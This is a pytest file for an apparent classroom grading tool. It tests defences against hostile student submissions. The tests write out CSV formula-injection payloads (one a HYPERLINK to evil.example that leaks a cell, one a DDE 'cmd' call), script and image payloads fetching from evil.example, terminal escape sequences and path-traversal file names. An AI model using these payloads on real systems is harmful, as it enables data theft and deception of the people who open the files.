"""Practice answers through nbgrader's exchange (decodelab.classroom.practice), without a hub: what
``decodelab classroom practice`` takes from ``submitted/`` and what it leaves out, the practice
notebook's export, and that the practice assignment is never a grade (no due date, no LMS column).
The walk through ngshare and nbgrader is tests/test_classroom_chart_hub.py's grading-machine test."""

from __future__ import annotations

import csv
import json
import stat
from pathlib import Path

import nbformat
import pytest

from decodelab.assess.quiz import AnswerStore, load_quizzes
from decodelab.classroom.cli import practice_command
from decodelab.classroom.practice import PRACTICE, gather, practice_notebook, write_practice

ROOT = Path(__file__).resolve().parents[1]


def _export(tmp_path: Path, login: str, monkeypatch) -> Path:
    """Run the practice notebook's export cell as ``login`` on a hub (one saved answer); returns the file."""
    answers = tmp_path / f"answers-{login}"
    q = next(q for q in load_quizzes() if q.kind == "single")
    AnswerStore(root=answers).save(q.id, q.choices[0].id)
    out = tmp_path / f"home-{login}" / PRACTICE
    out.mkdir(parents=True)
    monkeypatch.setenv("JUPYTERHUB_USER", login)
    monkeypatch.setenv("DECODELAB_ANSWERS_DIR", str(answers))
    monkeypatch.chdir(out)
    exec(practice_notebook().cells[1].source, {})  # noqa: S102 - the notebook's own cell, as the kernel runs it
    monkeypatch.delenv("JUPYTERHUB_USER")
    (path,) = out.glob("*.json")
    return path


def _collected(course: Path, student: str, src: Path, name: str | None = None) -> Path:
    """Put ``src`` where ``nbgrader collect practice`` puts student's file."""
    d = course / "submitted" / student / PRACTICE
    d.mkdir(parents=True, exist_ok=True)
    dst = d / (name or src.name)
    dst.write_bytes(src.read_bytes())
    return dst


def test_the_notebook_exports_under_the_hub_login_only(tmp_path, monkeypatch):
    path = _export(tmp_path, "minji", monkeypatch)
    assert path.name == "decodelab-course-minji.json"
    assert json.loads(path.read_text(encoding="utf-8"))["student_id"] == "minji"
    nb = nbformat.read(write_practice(tmp_path / "course"), as_version=4)
    assert [c.cell_type for c in nb.cells] == ["markdown", "code"]
    assert not any("nbgrader" in c.metadata for c in nb.cells)  # nothing to grade: never a score


def test_gather_keeps_only_each_submitters_own_file(tmp_path, monkeypatch):
    course = tmp_path / "course"
    minji = _export(tmp_path, "minji", monkeypatch)
    junho = _export(tmp_path, "junho", monkeypatch)
    _collected(course, "minji", minji)
    # junho hands in minji's file under his own folder, renamed as his: the id inside is minji's
    _collected(course, "junho", minji, name="decodelab-course-junho.json")
    # ...and his own file plus a copy in a third name
    _collected(course, "junho", junho, name="decodelab-course-eve.json")
    (course / "submitted" / "eve" / PRACTICE).mkdir(parents=True)  # eve submitted nothing usable
    link_dir = course / "submitted" / "sora" / PRACTICE
    link_dir.mkdir(parents=True)
    (link_dir / "decodelab-course-sora.json").symlink_to(minji)
    got = gather(course, tmp_path / "files")
    assert sorted(got.copied) == ["minji"]
    assert sorted(p.name for p in (tmp_path / "files").iterdir()) == ["decodelab-course-minji.json"]
    why = {(p.parent.parent.name if p.name.endswith(".json") else p.parent.name, p.name): r for p, r in got.refused}
    assert "낸 사람 junho와 다릅니다" in why[("junho", "decodelab-course-junho.json")]
    assert "다른 이름의 파일" in why[("junho", "decodelab-course-eve.json")]
    assert "심볼릭 링크" in why[("sora", "decodelab-course-sora.json")]
    assert "제출 파일(decodelab-course-eve.json)이 없습니다" in why[("eve", PRACTICE)]


def test_practice_command_writes_the_report_and_names_what_it_left_out(tmp_path, monkeypatch, capsys):
    course = tmp_path / "course"
    course.mkdir()  # a course folder, nothing collected yet
    assert practice_command([str(course), "-o", str(tmp_path / "r.csv")]) == 2
    assert "nbgrader collect practice" in capsys.readouterr().err
    minji = _export(tmp_path, "minji", monkeypatch)
    _collected(course, "minji", minji)
    assert practice_command([str(course), "-o", str(tmp_path / "r.csv")]) == 0
    rows = list(csv.DictReader((tmp_path / "r.csv").open(encoding="utf-8-sig")))
    assert [r["student_id"] for r in rows] == ["minji"]
    _collected(course, "minji", minji, name="decodelab-course-junho.json")
    assert practice_command([str(course), "-o", str(tmp_path / "r.csv")]) == 1
    assert "decodelab-course-junho.json" in capsys.readouterr().err
    # minji's file, collected again, is now another student's: the copy of the run before does not stay
    (course / "submitted" / "minji" / PRACTICE / "decodelab-course-minji.json").write_bytes(
        (course / "submitted" / "minji" / PRACTICE / "decodelab-course-junho.json").read_bytes().replace(b'"minji"', b'"junho"'))
    _collected(course, "sora", minji, name="decodelab-course-sora.json")
    (course / "submitted" / "sora" / PRACTICE / "decodelab-course-sora.json").write_text(
        minji.read_text(encoding="utf-8").replace('"minji"', '"sora"'), encoding="utf-8")
    assert practice_command([str(course), "-o", str(tmp_path / "r.csv")]) == 1
    assert sorted(p.name for p in (tmp_path / "r-files").iterdir()) == ["decodelab-course-sora.json"]
    assert [r["student_id"] for r in csv.DictReader((tmp_path / "r.csv").open(encoding="utf-8-sig"))] == ["sora"]
    for f in (course / "submitted").rglob("*.json"):
        f.unlink()
    assert practice_command([str(course), "-o", str(tmp_path / "r.csv")]) == 2


def test_practice_is_never_a_grade(tmp_path):
    """``init --due`` leaves the practice assignment without a due date, and the LMS file has no
    practice column even when the gradebook knows the assignment."""
    from nbgrader.api import Gradebook

    import hubkit
    from decodelab.classroom.lms import export

    course = tmp_path / "course"
    hubkit.init_course(course, ["alice"], args=["--due", "2099-01-01 00:00"])
    assert (course / "source" / PRACTICE / f"{PRACTICE}.ipynb").is_file()
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gb:
        dues = {a.name: a.duedate for a in gb.assignments}
        assert dues.get("exam-02") is not None and PRACTICE not in dues, dues
        gb.update_or_create_assignment(PRACTICE)
        gb.update_or_create_student("alice")
    export(course, "canvas", tmp_path / "lms.csv")
    header = next(csv.reader((tmp_path / "lms.csv").open(encoding="utf-8-sig")))
    assert "exam-02" in " ".join(header) and not any(PRACTICE in h for h in header), header


# --------------------------------------------------------------------------------------------
# Attacks by a student who controls what they submit (file names, contents, sizes, links): each
# builds ``submitted/<student>/practice/`` the way ``nbgrader collect practice`` leaves it and runs
# ``decodelab classroom practice`` as the lecturer does (root, in the course folder).
# --------------------------------------------------------------------------------------------


def _hostile(student: str, **fields) -> bytes:
    """A well-formed submission of ``student`` with ``fields`` replaced (the JSON a student can write by hand)."""
    body = {"format": "decodelab-quiz-submission", "version": 1, "student_id": student, "quiz_set": "course",
            "exported_at": "2026-12-07T09:00:00+00:00", "answers": {}}
    body.update(fields)
    return json.dumps(body, ensure_ascii=False).encode("utf-8")


def _put(course: Path, student: str, name: str, data: bytes) -> Path:
    d = course / "submitted" / student / PRACTICE
    d.mkdir(parents=True, exist_ok=True)
    (d / name).write_bytes(data)
    return d / name


def _run(tmp_path: Path, course: Path, capsys) -> tuple[int, list[dict], str]:
    """``decodelab classroom practice course -o tmp/r.csv``: (exit code, report rows, stderr)."""
    capsys.readouterr()
    rc = practice_command([str(course), "-o", str(tmp_path / "r.csv")])
    err = capsys.readouterr().err
    rows = list(csv.DictReader((tmp_path / "r.csv").open(encoding="utf-8-sig", newline=""))) if (tmp_path / "r.csv").exists() else []
    return rc, rows, err


def test_control_characters_in_names_and_json_keys_never_reach_the_lecturers_terminal(tmp_path, monkeypatch, capsys):
    """A file name (ngshare keeps any name without '/', '.', '..') or a JSON key with escape sequences
    or a newline would be printed raw to root's terminal: it could erase the lines above, forge a
    "copied" line, or hide that a file was left out. Every refusal line is printed with them escaped."""
    course = tmp_path / "course"
    _collected(course, "minji", _export(tmp_path, "minji", monkeypatch))
    esc = "\x1b[1A\x1b[2K\x1b]0;owned\x07"
    forged = "\ndecodelab classroom practice: 뺌: 없음\u202e"
    _put(course, "eve", f"x{esc}{forged}.json", _hostile("eve"))
    _put(course, "eve", "decodelab-course-eve.json", _hostile("eve", answers={f"01-x{esc}\n가짜 줄": {"a": 1}},
                                                              exercises={f"{esc}\n": {"kind": "written"}}))
    # a valid file: Python 3.11 takes any one character between an ISO date and time, so this
    # exported_at passes and its future-time warning (from decodelab grade) would carry a raw CR
    _put(course, "sora", "decodelab-course-sora.json", _hostile("sora", exported_at="2099-12-07\r09:00:00"))
    rc, rows, err = _run(tmp_path, course, capsys)
    assert rc == 1 and [r["student_id"] for r in rows] == ["minji", "sora"]
    assert "exported_at 2099-12-07\\r09:00:00" in err, err
    assert "\x1b" not in err and "\x07" not in err and "\u202e" not in err and "\r" not in err, err
    lines = err.splitlines()
    assert not any(line.startswith("decodelab classroom practice: 뺌: 없음") for line in lines), err
    assert sum("eve" in line and "뺌" in line for line in lines) == 2, err  # both files named, one line each
    assert "\\x1b" in err  # shown, not hidden


def test_decodelab_grade_prints_a_hostile_key_escaped(tmp_path, monkeypatch, capsys):
    """The same for ``decodelab grade`` on files gathered by hand (lecturer/classroom.md §3)."""
    from decodelab.assess.report import main as grade_main

    folder = tmp_path / "제출"
    folder.mkdir()
    (folder / "decodelab-course-minji.json").write_bytes(_export(tmp_path, "minji", monkeypatch).read_bytes())
    (folder / "decodelab-course-eve.json").write_bytes(_hostile("eve", answers={"01-x\x1b[2K\r가짜": {"a": 1}}))
    capsys.readouterr()
    assert grade_main([str(folder), "-o", str(tmp_path / "r.csv")]) == 1
    err = capsys.readouterr().err
    assert "decodelab-course-eve.json" in err and "\\x1b[2K\\r" in err
    assert "\x1b" not in err and "\r" not in err, err


def test_one_hostile_submission_never_breaks_the_report_nor_reaches_outside(tmp_path, monkeypatch, capsys):
    """Everything a student may hand in at once, beside an honest student: a folder named like the
    file, a file far over the size cap, hundreds of files, JSON tricks (duplicate keys, NaN, deep
    nesting, not UTF-8, a BOM), a FIFO, links to the gradebook and to a file outside the course folder
    (collect never makes them; a hand-made ``submitted/`` might), a hard link, a linked practice
    folder and a linked student folder. The honest row is written, every bad file is named, nothing
    outside ``<report>-files/`` is written and the gradebook is untouched."""
    import os

    course = tmp_path / "course"
    _collected(course, "minji", _export(tmp_path, "minji", monkeypatch))
    gradebook = course / "gradebook.db"
    gradebook.write_bytes(b"SQLite format 3\x00 lecturer's grades")
    outside = tmp_path / "outside.json"
    outside.write_bytes(_hostile("eve"))  # valid and eve's: still only ever read as eve's own file
    before = {p: p.read_bytes() for p in (gradebook, outside)}

    d = course / "submitted" / "eve" / PRACTICE
    (d / "decodelab-course-eve.json").mkdir(parents=True)  # a folder named like the file
    (d / "decodelab-course-eve.json" / "decodelab-course-eve.json").write_bytes(_hostile("eve"))
    for i in range(300):
        _put(course, "eve", f"decodelab-course-eve-{i:03d}.json", _hostile("eve"))
    big = _put(course, "mallory", "decodelab-course-mallory.json", b"")
    os.truncate(big, 8 * 1024**3)  # 8 GiB, sparse: refused by its size, never read
    _put(course, "dup", "decodelab-course-dup.json",
         b'{"format": "decodelab-quiz-submission", "version": 1, "student_id": "dup", "student_id": "minji", "answers": {}}')
    _put(course, "nan", "decodelab-course-nan.json", _hostile("nan").replace(b'"answers": {}', b'"answers": {"01-x": NaN}'))
    _put(course, "deep", "decodelab-course-deep.json", _hostile("deep").replace(b'"answers": {}', b'"answers": {"01-x": ' + b"[" * 100000 + b"]" * 100000 + b"}"))
    _put(course, "latin", "decodelab-course-latin.json", _hostile("latin", answers={"01-x": "é"}).decode().encode("latin-1"))
    _put(course, "bom", "decodelab-course-bom.json", b"\xef\xbb\xbf" + _hostile("bom"))  # a BOM is fine
    fifo_dir = course / "submitted" / "fifo" / PRACTICE
    fifo_dir.mkdir(parents=True)
    os.mkfifo(fifo_dir / "decodelab-course-fifo.json")  # reading it would hang the run
    for student, target in (("gb", gradebook), ("out", outside)):
        (course / "submitted" / student / PRACTICE).mkdir(parents=True)
        (course / "submitted" / student / PRACTICE / f"decodelab-course-{student}.json").symlink_to(target)
    (course / "submitted" / "hard" / PRACTICE).mkdir(parents=True)
    os.link(outside, course / "submitted" / "hard" / PRACTICE / "decodelab-course-hard.json")  # eve's content
    (course / "submitted" / "lnpractice").mkdir()
    (course / "submitted" / "lnpractice" / PRACTICE).symlink_to(d)
    (course / "submitted" / "lndir").symlink_to(course / "submitted" / "minji")

    rc, rows, err = _run(tmp_path, course, capsys)
    assert rc == 1
    assert [r["student_id"] for r in rows] == ["bom", "minji"]
    assert sorted(p.name for p in (tmp_path / "r-files").iterdir()) == [
        "decodelab-course-bom.json", "decodelab-course-minji.json"]
    refused = [line for line in err.splitlines() if "뺌:" in line]
    for student, why in (("eve", "일반 파일이 아닙니다"), ("mallory", "파일이 너무 큽니다"), ("dup", "두 번 나옵니다"),
                         ("nan", "NaN"), ("deep", "JSON"), ("latin", "UTF-8"), ("fifo", "일반 파일이 아닙니다"),
                         ("gb", "심볼릭 링크"), ("out", "심볼릭 링크"), ("hard", "낸 사람 hard와 다릅니다")):
        assert any(f"/{student}/{PRACTICE}/decodelab-course-{student}.json: " in line and why in line
                   for line in refused), (student, err)
    assert sum(f"/eve/{PRACTICE}/decodelab-course-eve-" in line for line in refused) == 300
    assert not any("lnpractice" in line or "lndir" in line for line in rows for line in line.values())
    assert {p: p.read_bytes() for p in before} == before
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(
        ["answers-minji", "course", "home-minji", "outside.json", "r-files", "r.csv"]
        + [p.name for p in tmp_path.glob("r-*.md")])


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A2,"클릭")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
            "\t=1+1", "\r=1+1", "\x00=1+1", "설명\r=1+1", "설명\n=1+1", "설명\r\n=1+1"]
"""Cell starts a spreadsheet reads as a formula: OWASP's CSV Injection list (=, +, -, @, tab, CR) and
ASVS 5.0 requirement 1.2.10 (the same and the NUL character); and a formula after a line break
inside the text, which must stay inside its quoted cell instead of starting a row of its own.
LibreOffice Calc 7.4 (CSV import, formulas evaluated) computes an unprefixed ``"\x00=1+1"`` and,
from an unquoted ``"ok\r=2+2"``, a new row whose first cell is the formula ``=2+2``."""


def test_formulas_in_every_free_text_field_stay_text_in_the_report(tmp_path, capsys):
    """A student writes a formula into every field of their file that the report shows as text (short
    answers, written answers, a prediction or a task value given as text, the revealed value): each
    such cell of the real report.csv starts with ``'`` (a spreadsheet shows it as text)."""
    from decodelab.assess.exercises import exercise_kind, load_exercises
    from decodelab.assess.quiz import load_quizzes

    shorts = [q.id for q in load_quizzes() if q.kind == "short"]
    ex = load_exercises()
    course = tmp_path / "course"
    for i, payload in enumerate(FORMULAS):
        student = f"s{i}"
        exercises = {}
        for eid, e in ex.items():
            kind = exercise_kind(e)
            exercises[eid] = ({"kind": "prediction", "response": payload, "revealed": payload} if kind == "prediction"
                              else {"kind": "written" if kind == "written" else "task", "response": payload})
        _put(course, student, f"decodelab-course-{student}.json",
             _hostile(student, answers={q: payload for q in shorts}, exercises=exercises))
    rc, rows, err = _run(tmp_path, course, capsys)
    assert rc == 0, err
    assert len(rows) == len(FORMULAS)
    for row, payload in zip(rows, FORMULAS):
        texts = {h: v for h, v in row.items() if payload in v}
        assert len(texts) == len(shorts) + sum(1 + (exercise_kind(e) == "prediction") for e in ex.values()), row
        bad = {h: v for h, v in texts.items() if v != ("'" + payload if payload[:1] in "=+-@\t\r\x00" else payload)}
        assert not bad, bad
        assert not [v for v in row.values() if v.startswith(tuple("=+-@\t\r\x00"))], row


def test_student_text_never_lands_in_the_rubric_or_predictions_file(tmp_path, capsys):
    """HTML or Markdown in a student's answers (a script, an image that calls home, a link, a heading
    that fakes a section) never reaches ``-rubric.md`` / ``-predictions.md``, which the lecturer opens
    in a Markdown viewer: those files hold the course's own text and counts and medians only."""
    from decodelab.assess.exercises import exercise_kind, load_exercises

    payload = '<img src=x onerror=alert(1)><script>fetch("//evil.example")</script>\n# 가짜 제목 [링크](javascript:alert(1))'
    course = tmp_path / "course"
    exercises = {}
    for eid, e in load_exercises().items():
        kind = exercise_kind(e)
        exercises[eid] = ({"kind": "prediction", "response": payload, "revealed": payload} if kind == "prediction"
                          else {"kind": "written" if kind == "written" else "task", "response": payload})
    _put(course, "eve", "decodelab-course-eve.json", _hostile("eve", exercises=exercises))
    rc, rows, err = _run(tmp_path, course, capsys)
    assert rc == 0 and [r["student_id"] for r in rows] == ["eve"], err
    mds = {p.name: p.read_text(encoding="utf-8") for p in tmp_path.glob("r-*.md")}
    assert sorted(mds) == ["r-predictions.md", "r-rubric.md"]
    for text in mds.values():
        assert "<" not in text and "evil" not in text and "javascript" not in text and "가짜" not in text


def test_a_carriage_return_in_an_answer_cannot_forge_a_row(tmp_path, capsys):
    """A written answer ``"...\\rminji,course,..."``: Python's csv writer with ``lineterminator="\\n"``
    left a field holding a lone CR unquoted, and a spreadsheet (or any CSV reader) starts a new row
    at that CR, here a row named minji with full marks, or one whose first cell is a live formula."""
    from decodelab.assess.exercises import exercise_kind, load_exercises

    written = next(eid for eid, e in load_exercises().items() if exercise_kind(e) == "written")
    course = tmp_path / "course"
    _put(course, "minji", "decodelab-course-minji.json", _hostile("minji"))
    for i, forged in enumerate(["좋은 답\rminji,course,forged.json,,100,100", "\r=HYPERLINK(\"http://evil.example\")"]):
        _put(course, f"eve{i}", f"decodelab-course-eve{i}.json",
             _hostile(f"eve{i}", exercises={written: {"kind": "written", "response": forged}}))
    rc, rows, err = _run(tmp_path, course, capsys)
    assert rc == 0, err
    assert [r["student_id"] for r in rows] == ["eve0", "eve1", "minji"]
    assert rows[0][f"{written} [서술]"] == "좋은 답\rminji,course,forged.json,,100,100"
    assert rows[1][f"{written} [서술]"] == "'\r=HYPERLINK(\"http://evil.example\")"
    raw = (tmp_path / "r.csv").read_bytes()
    assert raw.count(b"\r\n") == 4 and raw.count(b"\r") == 4 + 2  # 4 rows; the answers' CRs are inside quotes


def test_names_a_student_can_hand_in_through_ngshare_and_what_collect_makes_of_them(tmp_path):
    """What of a name reaches ``submitted/``: ngshare's submit handler (``path_check``) refuses a
    path that leaves the submission (``..``, absolute, ``.``, empty parts), so ``nbgrader collect``
    (ngshare-exchange's ``decode_dir``, ``os.path.join(dest, path)``) never writes outside
    ``submitted/<student>/practice/``; any other name, escape sequences and line breaks included,
    is kept as it is: which is why ``decodelab classroom practice`` prints names escaped."""
    import importlib.util
    import logging

    pytest.importorskip("ngshare")
    if importlib.util.find_spec("ngshare_exchange") is None:  # never imported here before the plugin (it sets $USER)
        pytest.skip("ngshare-exchange is not installed (scripts/install_hub.sh)")
    from ngshare.ngshare import MyHelpers

    from decodelab.classroom.exchange_plugin import ExchangeCollect  # imports ngshare-exchange as nbgrader does

    for path in ("../minji/practice/decodelab-course-minji.json", "/etc/cron.d/x", "./decodelab-course-eve.json",
                 "sub/../../x", "..", ""):
        assert not MyHelpers.path_check(None, path), path
    odd = ["decodelab-course-eve.json\n뺌: x", "x\x1b[2K.json", "decodelab-course-eve.json/decodelab-course-eve.json"]
    assert all(MyHelpers.path_check(None, p) for p in odd)

    class _Collect:  # what ExchangeCollect.do_copy uses of itself
        log = logging.getLogger("test")
        decode_dir = ExchangeCollect.decode_dir

    import base64

    dest = tmp_path / "course" / "submitted" / "eve" / PRACTICE
    ExchangeCollect.do_copy(_Collect(), [{"path": p, "content": base64.b64encode(b"{}").decode()} for p in odd], str(dest))
    got = sorted(str(p.relative_to(tmp_path)) for p in tmp_path.rglob("*") if p.is_file())
    assert got == sorted(f"course/submitted/eve/{PRACTICE}/{p}" for p in odd)


def test_a_shuffle_key_naming_another_student_stays_in_the_forgers_row(tmp_path, monkeypatch, capsys):
    """eve's own file with ``shuffle_key: "minji"`` (on a hub the key is always the login): it only
    changes the order ``decodelab quiz view`` shows for eve's row; minji's row, file and scores are
    the same as without eve, and eve's choices are scored by option id, whatever order she claims."""
    from decodelab.assess.quiz import load_quizzes

    course = tmp_path / "course"
    _collected(course, "minji", _export(tmp_path, "minji", monkeypatch))
    rc, alone, _ = _run(tmp_path, course, capsys)
    assert rc == 0
    q = next(q for q in load_quizzes() if q.kind == "single")
    _put(course, "eve", "decodelab-course-eve.json", _hostile("eve", shuffle_key="minji", answers={q.id: q.answer}))
    rc, rows, err = _run(tmp_path, course, capsys)
    assert rc == 0, err
    eve, minji = rows
    assert (eve["student_id"], eve["shuffle_key"], eve[q.id]) == ("eve", "minji", f"{q.points:g}")
    assert minji == alone[0]


def test_collect_takes_every_file_a_student_can_name_and_never_stops_the_class(tmp_path, monkeypatch, caplog):
    """ngshare-exchange 0.5.3's ``decode_dir`` looks for a file's folder in the *current* folder, not
    in the submission's: the lecturer runs ``nbgrader collect`` in the course folder, so a student's
    file ``source/x`` (any folder name the course folder has) was opened in a folder never made, and
    ``FileNotFoundError`` ended collect for every student after them (and the same for exam-02). A
    file and a folder of one name (``a`` and ``a/b``) did the same. Collect now writes what it can,
    names what it cannot (escaped), and goes on; a path leaving the submission is never written even
    if an ngshare server let one through."""
    import base64
    import importlib.util
    import logging

    if importlib.util.find_spec("ngshare_exchange") is None:
        pytest.skip("ngshare-exchange is not installed (scripts/install_hub.sh)")
    from decodelab.classroom.exchange_plugin import ExchangeCollect

    course = tmp_path / "course"
    for folder in ("source", "release", "submitted"):
        (course / folder).mkdir(parents=True)
    monkeypatch.chdir(course)
    dest = course / "submitted" / "aaa" / PRACTICE
    names = ["source/x.json", "release/practice/practice.ipynb", "a", "a/b", "c/d", "c", "../../../outside.json",
             "/tmp/decodelab-abs.json", "decodelab-course-aaa.json", "x\x1b[2K\n.json", "timestamp.txt"]
    files = [{"path": p, "content": base64.encodebytes(p.encode()).decode()} for p in names]

    class _Collect:  # what ExchangeCollect.do_copy (0.5.3's or decodelab's) uses of itself
        log = logging.getLogger("test-collect")
        decode_dir = ExchangeCollect.decode_dir

    with caplog.at_level(logging.WARNING, logger="test-collect"):
        ExchangeCollect.do_copy(_Collect(), files, str(dest))
    written = {str(p.relative_to(dest)): p.read_text() for p in dest.rglob("*") if p.is_file()}
    for p in ("source/x.json", "release/practice/practice.ipynb", "a", "c/d", "decodelab-course-aaa.json",
              "x\x1b[2K\n.json", "timestamp.txt"):
        assert written.pop(p) == p
    assert written == {}
    assert not (tmp_path / "outside.json").exists() and not Path("/tmp/decodelab-abs.json").exists()
    left = [r.getMessage().split(": ", 1)[1] for r in caplog.records]
    assert sorted(left) == sorted([
        "제출물의 파일 a/b을(를) 쓰지 못해 뺐습니다 (같은 이름의 파일이 이미 있습니다); 다른 파일과 다른 학생은 계속 걷습니다",
        "제출물의 파일 c을(를) 쓰지 못해 뺐습니다 (파일이 아니라 폴더입니다); 다른 파일과 다른 학생은 계속 걷습니다",
        "제출물 밖을 가리키는 파일 이름 ../../../outside.json은(는) 쓰지 않았습니다",
        "제출물 밖을 가리키는 파일 이름 /tmp/decodelab-abs.json은(는) 쓰지 않았습니다"]), left
    assert "\x1b" not in caplog.text


def test_a_folder_named_timestamp_txt_never_keeps_the_servers_time_out(tmp_path):
    """A student's files ``timestamp.txt/x``: the folder would take the place of the ``timestamp.txt``
    collect writes from ngshare's clock (0.5.3: collect stopped there; writing on past the file it
    cannot write: no timestamp, so a late submission would not count late). The student's folder of
    that name is dropped like their own ``timestamp.txt``."""
    import base64
    import importlib.util
    import logging

    if importlib.util.find_spec("ngshare_exchange") is None:
        pytest.skip("ngshare-exchange is not installed (scripts/install_hub.sh)")
    from decodelab.classroom.exchange_plugin import ExchangeCollect

    def enc(text: str) -> str:
        return base64.encodebytes(text.encode()).decode()

    server_time = "2026-12-07 09:00:00.000000 UTC"

    class _Collect:
        log = logging.getLogger("test-collect")
        decode_dir = ExchangeCollect.decode_dir

        def ngshare_api_get(self, url, params=None):
            return {"timestamp": server_time, "files": [
                {"path": "timestamp.txt/x", "content": enc("x")}, {"path": "timestamp.txt", "content": enc("2020-01-01")},
                {"path": "./timestamp.txt", "content": enc("2019-01-01")},  # the same file, written by do_copy
                {"path": "decodelab-course-eve.json", "content": enc("{}")}]}

    fake = _Collect()
    sub = ExchangeCollect._get_submission(fake, "decodelab", PRACTICE, "eve")
    assert [f["path"] for f in sub["files"] if "timestamp" in f["path"]] == ["timestamp.txt"]  # the server's only
    dest = tmp_path / "submitted" / "eve" / PRACTICE
    ExchangeCollect.do_copy(fake, sub["files"], str(dest))
    assert (dest / "timestamp.txt").read_text() == server_time
    assert sorted(p.name for p in dest.iterdir()) == ["decodelab-course-eve.json", "timestamp.txt"]


def _section3_block() -> str:
    """The bash block of lecturer/classroom.md §3 that gathers the submission files from the homes."""
    text = (ROOT / "lecturer" / "classroom.md").read_text(encoding="utf-8")
    section = text.split("## 3. ", 1)[1].split("\n## ", 1)[0]
    return section.split("제출 파일 모으기", 1)[1].split("```bash\n", 1)[1].split("```", 1)[0]


def _homes_walk(tmp_path: Path, homes: Path, timeout: float = 60) -> tuple[int, list[dict], str]:
    """Run §3's block as root with ``/home/`` at ``homes``: (exit code of its last command, report rows, stderr)."""
    import os
    import subprocess
    import sys

    work = tmp_path / "work"
    work.mkdir(exist_ok=True)
    import re

    block = re.sub(r"(?<=\s)/home/?(?=[\s*])", f"{homes}/", _section3_block())
    env = {**os.environ, "PATH": f"{Path(sys.executable).parent}:{os.environ['PATH']}"}
    r = subprocess.run(["bash", "-c", block], cwd=work, env=env, capture_output=True, text=True, timeout=timeout)
    report = work / "report.csv"
    rows = list(csv.DictReader(report.open(encoding="utf-8-sig", newline=""))) if report.exists() else []
    return r.returncode, rows, r.stderr


def test_gathering_from_the_homes_takes_only_the_owners_own_file(tmp_path, monkeypatch):
    """lecturer/classroom.md §3 on one server (root gathers ``/home/<u>/decodelab-course-<u>.json``):
    eve's file says ``"student_id": "minji"`` and carries ``"student_id": "eve"`` in a field the
    grader ignores (a ``grep`` for the owner's id matched it); with more answers than minji's, eve's
    answers became minji's row. Only a file whose own ``student_id`` is the home's owner is taken."""
    from decodelab.assess.quiz import load_quizzes

    homes = tmp_path / "home"
    honest = _export(tmp_path, "minji", monkeypatch)
    (homes / "minji").mkdir(parents=True)
    (homes / "minji" / honest.name).write_bytes(honest.read_bytes())
    qs = [q for q in load_quizzes() if q.kind == "single"][:5]
    forged = json.loads(_hostile("minji", answers={q.id: q.choices[-1].id for q in qs}))
    forged["note"] = {"student_id": "eve"}
    (homes / "eve").mkdir()
    (homes / "eve" / "decodelab-course-eve.json").write_text(json.dumps(forged), encoding="utf-8")
    rc, rows, err = _homes_walk(tmp_path, homes)
    assert [r["student_id"] for r in rows] == ["minji"], err
    assert rows[0]["file"] == "decodelab-course-minji.json", rows[0]["file"]


def test_gathering_from_the_homes_never_follows_what_a_student_plants(tmp_path, monkeypatch):
    """Root reads the homes, which the students own: a link to another student's file or to a file
    only root may read, a FIFO (a read would wait for ever), a sparse 8 GiB file, a folder named
    like the file, a file with another student's id, a linked home. Each is left out and named, the
    run ends, minji's row is hers, and nothing is read through a link."""
    import os

    homes = tmp_path / "home"
    honest = _export(tmp_path, "minji", monkeypatch)
    (homes / "minji").mkdir(parents=True)
    (homes / "minji" / honest.name).write_bytes(honest.read_bytes())
    secret = tmp_path / "root-only.json"
    secret.write_bytes(_hostile("link2"))  # would pass every check if it were read through the link
    secret.chmod(0o600)
    plants = {"link1": lambda p: p.symlink_to(homes / "minji" / honest.name), "link2": lambda p: p.symlink_to(secret),
              "fifo": lambda p: os.mkfifo(p), "big": lambda p: os.truncate(p.open("wb").name, 8 * 1024**3),
              "folder": lambda p: p.mkdir(), "other": lambda p: p.write_bytes(_hostile("minji"))}
    for user, plant in plants.items():
        (homes / user).mkdir()
        plant(homes / user / f"decodelab-course-{user}.json")
    (homes / "lecturer").mkdir()  # a home without a file: passed over in silence
    (homes / "lnhome").symlink_to(homes / "minji")
    rc, rows, err = _homes_walk(tmp_path, homes)
    assert rc == 1, err
    assert [(r["student_id"], r["file"]) for r in rows] == [("minji", "decodelab-course-minji.json")], err
    refused = [line for line in err.splitlines() if "뺌:" in line]
    for user, why in (("link1", "심볼릭 링크"), ("link2", "심볼릭 링크"), ("fifo", "일반 파일이 아닙니다"),
                      ("big", "파일이 너무 큽니다"), ("folder", "일반 파일이 아닙니다"), ("other", "낸 사람 other와 다릅니다")):
        assert any(f"/{user}/decodelab-course-{user}.json: {why}" in line or
                   (f"/{user}/decodelab-course-{user}.json: " in line and why in line) for line in refused), (user, err)
    assert len(refused) == len(plants), err
    assert sorted(p.name for p in (tmp_path / "work" / "report-files").iterdir()) == ["decodelab-course-minji.json"]
    # the copies are as private as the answers: another user of the server cannot read them
    assert stat.S_IMODE((tmp_path / "work" / "report-files").stat().st_mode) == 0o700
    assert stat.S_IMODE((tmp_path / "work" / "report-files" / "decodelab-course-minji.json").stat().st_mode) == 0o600


def test_practice_takes_a_course_folder_or_homes_not_both(tmp_path, capsys):
    """Neither DIR nor --homes names what to give; both are refused; a --homes that is no folder is
    named; a course folder that does not exist is named as such (not as a missing submitted/)."""
    for argv, says in (([], "강좌 폴더(DIR)를 주세요"), ([str(tmp_path), "--homes", str(tmp_path)], "--homes 중 하나만")):
        with pytest.raises(SystemExit) as e:
            practice_command([*argv, "-o", str(tmp_path / "r.csv")])
        assert e.value.code == 2
        assert says in capsys.readouterr().err
    assert practice_command(["--homes", str(tmp_path / "none"), "-o", str(tmp_path / "r.csv")]) == 2
    assert "학생 홈들이 든 폴더" in capsys.readouterr().err
    assert practice_command([str(tmp_path / "없는폴더")]) == 2
    err = capsys.readouterr().err
    assert "강좌 폴더" in err and "없는폴더이(가) 없습니다" in err and "submitted" not in err
